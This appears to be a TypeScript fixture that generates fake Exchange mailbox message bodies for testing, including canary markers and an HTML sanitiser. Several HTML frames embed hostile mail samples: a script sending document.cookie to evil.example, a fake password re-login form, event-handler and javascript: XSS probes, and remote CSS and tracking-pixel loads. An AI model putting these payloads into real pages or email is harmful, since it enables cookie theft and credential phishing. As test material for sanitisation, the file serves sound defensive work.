// Bodies are made when somebody opens a message, from its key: a mailbox of thousands costs no text.
import { prose } from './names.ts'
import { seeded } from './random.ts'

/** A message or a meeting: what its texts are made of. */
interface Written { key: string; canaries: string[]; body?: { contentType: 'text' | 'html'; content: string }; preview?: string }

/** Wraps a text into mail HTML of the kinds seen in real life, some of them hostile. */
const FRAMES: readonly ((text: string, tag: string) => string)[] = [
  (text) => `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr"><div style="font-family:Calibri">${text}</div></body></html>`,
  (text) => `<html><body><p>${text}</p><hr><blockquote style="border-left:1px solid #ccc">On Tuesday somebody wrote:<br>&gt; see above</blockquote></body></html>`,
  (text, tag) => `<html><body><table width="600"><tr><td>${text}</td></tr></table><img src="https://pixel.tracker.example/o.gif?u=${tag}" width="1" height="1"></body></html>`,
  (text, tag) => `<html><body>${text}<script>fetch("https://evil.example/"+document.cookie+"${tag}")</script><img src=x onerror="alert(1)"></body></html>`,
  (text, tag) => `<html><body>${text}<form action="https://evil.example/login?${tag}"><input name="password" type="password"><button>Sign in again</button></form></body></html>`,
  (text, tag) => `<html><head><style>body{background:url(https://evil.example/${tag}.png)}@import "https://evil.example/a.css";</style><base href="https://evil.example/"></head><body>${text}<svg onload="alert(2)"></svg><a href="javascript:alert(3)">Pay</a><iframe src="https://evil.example/${tag}"></iframe></body></html>`,
]

/** The text of a generated body: harmless prose first, so that the preview holds no canary unless it is meant to. */
function textOf(message: Written): string {
  const random = seeded('body', message.key)
  const opening = prose(random)
  const [body, ...more] = message.canaries
  // The second canary, when there is one, stands in the preview: nothing of such a message may be kept.
  return `${more[0]?.startsWith('pv') ? `${more[0]} ` : ''}${opening} Reference ${body ?? 'none'}. Kind regards`
}

/** Body of a message as Exchange keeps it. */
export function bodyOf(message: Written): { contentType: 'text' | 'html'; content: string } {
  if (message.body) return message.body
  const random = seeded('frame', message.key)
  const text = textOf(message)
  if (random.chance(0.2)) return { contentType: 'text', content: text }
  return { contentType: 'html', content: (FRAMES[random.int(FRAMES.length)] as (typeof FRAMES)[number])(text, random.token(8)) }
}

/** HTML without its tags, as `Prefer: outlook.body-content-type="text"` gives it. */
export function plain(body: { contentType: string; content: string }): string {
  if (body.contentType === 'text') return body.content
  return body.content.replace(/<(script|style)[\s\S]*?<\/\1>/gi, '').replace(/<[^>]*>/g, ' ').replace(/&nbsp;/g, ' ').replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>').replace(/&amp;/g, '&').replace(/[ \t]+/g, ' ').trim()
}

/** The first 255 characters of the text (message resource: bodyPreview). */
export function previewOf(message: Written): string {
  return (message.preview ?? (message.body ? plain(message.body) : textOf(message))).slice(0, 255)
}
